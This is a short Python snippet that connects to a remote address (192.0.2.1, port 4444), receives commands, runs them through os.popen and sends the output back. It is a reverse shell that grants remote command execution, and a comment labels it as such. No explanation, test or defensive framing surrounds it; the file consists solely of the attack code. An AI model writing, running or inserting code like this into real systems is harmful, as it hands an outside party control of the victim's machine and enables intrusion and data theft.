import socket, os
s = socket.socket()
s.connect(("192.0.2.1", 4444))
while 1:
    cmd = s.recv(1024)
    s.send(os.popen(cmd).read())  # shell
